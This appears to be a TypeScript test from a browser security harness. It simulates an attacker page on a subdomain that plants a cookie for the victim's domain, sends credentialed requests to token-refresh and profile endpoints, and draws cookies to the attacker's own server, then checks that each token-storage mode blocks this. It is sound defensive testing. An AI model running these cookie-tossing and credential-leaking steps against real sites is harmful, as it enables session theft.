/** The attacker has a page below the site's own name: it asks the site with its cookies, lures the browser to its own server under the same paths, and sets cookies for both. */
import { attack } from './support/attack.js';
import { stopped } from './support/outcome.js';
import { signedInAs } from './support/modes.js';
import type { Victim } from './support/victim.js';

const BY_ORIGIN = stopped('cookies are for the host alone, and what the API answers is for its own origin');

async function askFrom(origin: string, { browser, site, attacker, endpoints, worker }: Victim): Promise<unknown> {
  const tab = await browser.open(`${origin}/`);
  const said = await tab.run(
    async ([victim, paths]) => {
      const texts: string[] = [];
      const ask = (url: string, init: RequestInit): Promise<unknown> => fetch(url, init).then((answer) => answer.text(), String).then((text) => texts.push(text));
      document.cookie = `token-worker-browser=planted; domain=${new URL(victim).hostname}; path=/`;
      for (const path of paths) {
        await ask(victim + path, { credentials: 'include', method: 'POST' });
        await ask(victim + path, { credentials: 'include', mode: 'no-cors' });
        // To the attacker's own server, under the paths of the site's cookies.
        await ask(location.origin + path, { credentials: 'include' });
      }
      return texts;
    },
    [site.origin, [endpoints.refresh, endpoints.me, worker]] as const,
  );
  return [said, attacker.received()];
}

attack('From a subdomain: ask with the site’s cookies, and have them sent', {
  engines: 'all',
  expected: { indexeddb: BY_ORIGIN, memory: BY_ORIGIN, sealed: BY_ORIGIN, 'sealed + proof': BY_ORIGIN },
  steps: (victim) => askFrom(victim.attacker.subdomain, victim),
  control: {
    name: 'another port of the same host, to which the browser sends the same cookies',
    victim: async (stage) => {
      const victim = await signedInAs(stage, { refreshTokenIn: 'cookie', storage: 'memory', hasProof: false });
      return { ...victim, attacker: { ...victim.attacker, subdomain: victim.attacker.sameHost } };
    },
  },
});
